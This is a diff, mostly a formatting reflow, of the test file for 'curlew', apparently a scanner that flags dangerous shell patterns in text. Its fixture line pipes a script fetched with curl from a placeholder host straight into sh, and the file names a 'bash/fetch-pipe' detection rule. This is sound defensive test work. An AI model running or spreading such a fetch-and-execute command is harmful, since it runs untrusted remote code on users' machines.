@@ -8,7 +8,9 @@ const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
 describe("scan", () => {
   it("reads standard input", async () => {
-    const { status, stdout, stderr } = await curlew(["scan", "-"], { stdin: `Run \`${BAD}\` now.` });
+    const { status, stdout, stderr } = await curlew(["scan", "-"], {
+      stdin: `Run \`${BAD}\` now.`,
+    });
     expect(stdout).toContain("<stdin>:1:6: bash/fetch-pipe");
     expect(stdout).toContain("sh ./i.sh");
     expect([status, stderr]).toEqual([1, ""]);
@@ -23,25 +25,39 @@ describe("scan", () => {
       "ok.md": "Nothing here.",
     });
     const { status, stdout } = await curlew(["scan", "."], { cwd });
-    expect(stdout.split("\n").filter((line) => /^\S+:\d+:\d+: /.test(line)).map((line) => line.split(" ")[0])).toEqual([
-      "Dockerfile:2:5:", "README.md:4:1:", "src/run.py:3:12:", "src/setup.sh:4:1:",
-    ]);
+    expect(
+      stdout
+        .split("\n")
+        .filter((line) => /^\S+:\d+:\d+: /.test(line))
+        .map((line) => line.split(" ")[0]),
+    ).toEqual(["Dockerfile:2:5:", "README.md:4:1:", "src/run.py:3:12:", "src/setup.sh:4:1:"]);
     expect(stdout).toContain("4 findings in 4 of 5 texts");
     expect(status).toBe(1);
   });
 
   it("is clean about clean text", async () => {
-    expect(await curlew(["scan", "-"], { stdin: "curl -o f https://x.example/f" })).toEqual({ status: 0, stdout: "no findings in 1 text\n", stderr: "" });
+    expect(await curlew(["scan", "-"], { stdin: "curl -o f https://x.example/f" })).toEqual({
+      status: 0,
+      stdout: "no findings in 1 text\n",
+      stderr: "",
+    });
   });
 
   it("says which step decided with --trace", async () => {
-    const { stdout } = await curlew(["scan", "--trace", "-"], { stdin: `${BAD}\n\nNever run \`${BAD}\`.` });
+    const { stdout } = await curlew(["scan", "--trace", "-"], {
+      stdin: `${BAD}\n\nNever run \`${BAD}\`.`,
+    });
     expect(stdout).toMatch(/1\. fetch: .*\(rule \d+\) at 1:1 «curl»/);
     expect(stdout).toMatch(/dismissed \(warned-against\)/);
   });
 
   it("takes bytes that are no text", async () => {
-    for (const stdin of [Buffer.from([0xff, 0xfe, 0x00]), Buffer.from("a\0b\0"), Buffer.from([0xed, 0xa0, 0x80]), Buffer.alloc(0)]) {
+    for (const stdin of [
+      Buffer.from([0xff, 0xfe, 0x00]),
+      Buffer.from("a\0b\0"),
+      Buffer.from([0xed, 0xa0, 0x80]),
+      Buffer.alloc(0),
+    ]) {
       const { status, stderr } = await curlew(["scan", "-"], { stdin });
       expect(stderr).not.toMatch(/\n\s+at |internal/);
       expect(status).toBe(0);
@@ -60,7 +76,10 @@ describe("scan", () => {
 describe("messages", () => {
   it.each([
     [["scan", "missing.md"], /^curlew: missing\.md: no such file or folder\n$/],
-    [["scan", "--profile", "lax", "-"], /^curlew: option '-p, --profile <name>' argument 'lax' is invalid/],
+    [
+      ["scan", "--profile", "lax", "-"],
+      /^curlew: option '-p, --profile <name>' argument 'lax' is invalid/,
+    ],
     [["scan", "--wat"], /^curlew: unknown option '--wat'/],
     [["scan", "--queries", "no/such/folder", "-"], /^curlew: .*no\/such\/folder/],
     [["explain", "bash/nothing"], /^curlew: no rule "bash\/nothing"/],
@@ -75,10 +94,17 @@ describe("messages", () => {
   it.each([
     ["an unknown capture", "((word) @sorce.fetcher)\n", /broken\.scm:1:\d+/],
     ["broken syntax", "((command_name\n", /broken\.scm:\d+/],
-    ["an unknown predicate", '((command_name) @source.fetcher\n  (#is-it? @source.fetcher "x"))\n', /broken\.scm:2:\d+/],
+    [
+      "an unknown predicate",
+      '((command_name) @source.fetcher\n  (#is-it? @source.fetcher "x"))\n',
+      /broken\.scm:2:\d+/,
+    ],
   ])("names a query file with %s", async (_name, text, place) => {
     const cwd = folderWith({ "mine/bash/broken.scm": text });
-    const { status, stderr, stdout } = await curlew(["scan", "--queries", "mine", "-"], { cwd, stdin: BAD });
+    const { status, stderr, stdout } = await curlew(["scan", "--queries", "mine", "-"], {
+      cwd,
+      stdin: BAD,
+    });
     expect(stderr).toMatch(place);
     expect(stderr).not.toMatch(/\n\s+at /);
     expect([status, stdout]).toEqual([2, ""]);
@@ -87,41 +113,77 @@ describe("messages", () => {
 
 describe("pipes", () => {
   it("is quiet when the reader goes", async () => {
-    const stdin = Array.from({ length: 20_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join("\n");
-    const { stdout, stderr } = await bash('curlew batch -q - --predictions - | head -n 1; echo "status ${PIPESTATUS[0]}"', { stdin });
+    const stdin = Array.from({ length: 20_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
+      "\n",
+    );
+    const { stdout, stderr } = await bash(
+      'curlew batch -q - --predictions - | head -n 1; echo "status ${PIPESTATUS[0]}"',
+      { stdin },
+    );
     expect(stdout).toMatch(/^\{"id":0,.*\nstatus \d+\n$/);
     expect(stderr).not.toMatch(/EPIPE|Error|\n\s+at /);
   });
 
-  it.each(["--help", "rules", "token list --tokens none", "serve --print-config", "scan README.md"])("%s is quiet when nobody reads", async (args) => {
+  it.each([
+    "--help",
+    "rules",
+    "token list --tokens none",
+    "serve --print-config",
+    "scan README.md",
+  ])("%s is quiet when nobody reads", async (args) => {
     const { stdout, stderr } = await bash(`curlew ${args} | true; echo "status \${PIPESTATUS[0]}"`);
     expect([stdout, stderr]).toEqual(["status 0\n", ""]);
   });
 
-  it.each(["--help", "rules", "scan README.md", "batch corpora/live-gap.v1.jsonl"])("%s says when its answer cannot be written", async (args) => {
-    expect(await bash(`curlew ${args} > /dev/full`)).toEqual({ status: 2, stdout: "", stderr: "curlew: cannot write standard output: no space left\n" });
-  });
+  it.each(["--help", "rules", "scan README.md", "batch corpora/live-gap.v1.jsonl"])(
+    "%s says when its answer cannot be written",
+    async (args) => {
+      expect(await bash(`curlew ${args} > /dev/full`)).toEqual({
+        status: 2,
+        stdout: "",
+        stderr: "curlew: cannot write standard output: no space left\n",
+      });
+    },
+  );
 
   it("says when predictions cannot be written", async () => {
-    const { status, stderr } = await curlew(["batch", "corpora/live-gap.v1.jsonl", "--predictions", "/dev/full"]);
+    const { status, stderr } = await curlew([
+      "batch",
+      "corpora/live-gap.v1.jsonl",
+      "--predictions",
+      "/dev/full",
+    ]);
     expect([status, stderr]).toEqual([2, "curlew: cannot write /dev/full: no space left\n"]);
   });
 
   it("writes many predictions to a file without a word", async () => {
-    const cwd = folderWith({ "in.jsonl": Array.from({ length: 5_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join("\n") });
-    const { status, stderr } = await curlew(["batch", "-q", "in.jsonl", "--predictions", "out.jsonl"], { cwd });
+    const cwd = folderWith({
+      "in.jsonl": Array.from({ length: 5_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
+        "\n",
+      ),
+    });
+    const { status, stderr } = await curlew(
+      ["batch", "-q", "in.jsonl", "--predictions", "out.jsonl"],
+      { cwd },
+    );
     expect([status, stderr]).toEqual([0, ""]);
     expect(readFileSync(join(cwd, "out.jsonl"), "utf8").match(/\n/g)).toHaveLength(5_000);
   });
 
   it("streams large answers whole", async () => {
-    const stdin = Array.from({ length: 20_000 }, (_, id) => JSON.stringify({ id, text: "x", labels: [] })).join("\n");
-    const { stdout } = await bash("curlew batch -q - --predictions - | { sleep 1; wc -l; }", { stdin });
+    const stdin = Array.from({ length: 20_000 }, (_, id) =>
+      JSON.stringify({ id, text: "x", labels: [] }),
+    ).join("\n");
+    const { stdout } = await bash("curlew batch -q - --predictions - | { sleep 1; wc -l; }", {
+      stdin,
+    });
     expect(stdout.trim()).toBe("20000");
   });
 
   it("reads a process substitution and a named pipe", async () => {
-    expect((await bash(`curlew scan <(echo '${BAD}')`)).stdout).toContain("1 finding in 1 of 1 text");
+    expect((await bash(`curlew scan <(echo '${BAD}')`)).stdout).toContain(
+      "1 finding in 1 of 1 text",
+    );
   });
 });
 
@@ -130,12 +192,32 @@ describe("batch", () => {
     const stdin = [
       { id: "p", text: BAD, labels: ["PS"], spans: [[0, BAD.length]] },
       { text: "curl -o f https://x.example/f", labels: [], spans: [] },
-    ].map((record) => JSON.stringify(record)).join("\n");
-    const { stdout, stderr, status } = await curlew(["batch", "-", "--predictions", "-"], { stdin });
-    const [first, second] = stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
-    expect(first).toMatchObject({ id: "p", labels: ["PS"], spans: [[0, BAD.length]], outcome: { status: "complete" } });
-    expect(second).toEqual({ id: 2, labels: [], spans: [], findings: [], outcome: { status: "complete" } });
-    expect(stderr).toContain("<stdin>        2   1   0   0   1     100.0%  100.0%  100.0%  100.0% (1/1)");
+    ]
+      .map((record) => JSON.stringify(record))
+      .join("\n");
+    const { stdout, stderr, status } = await curlew(["batch", "-", "--predictions", "-"], {
+      stdin,
+    });
+    const [first, second] = stdout
+      .trimEnd()
+      .split("\n")
+      .map((line) => JSON.parse(line));
+    expect(first).toMatchObject({
+      id: "p",
+      labels: ["PS"],
+      spans: [[0, BAD.length]],
+      outcome: { status: "complete" },
+    });
+    expect(second).toEqual({
+      id: 2,
+      labels: [],
+      spans: [],
+      findings: [],
+      outcome: { status: "complete" },
+    });
+    expect(stderr).toContain(
+      "<stdin>        2   1   0   0   1     100.0%  100.0%  100.0%  100.0% (1/1)",
+    );
     expect(status).toBe(0);
   });
 });
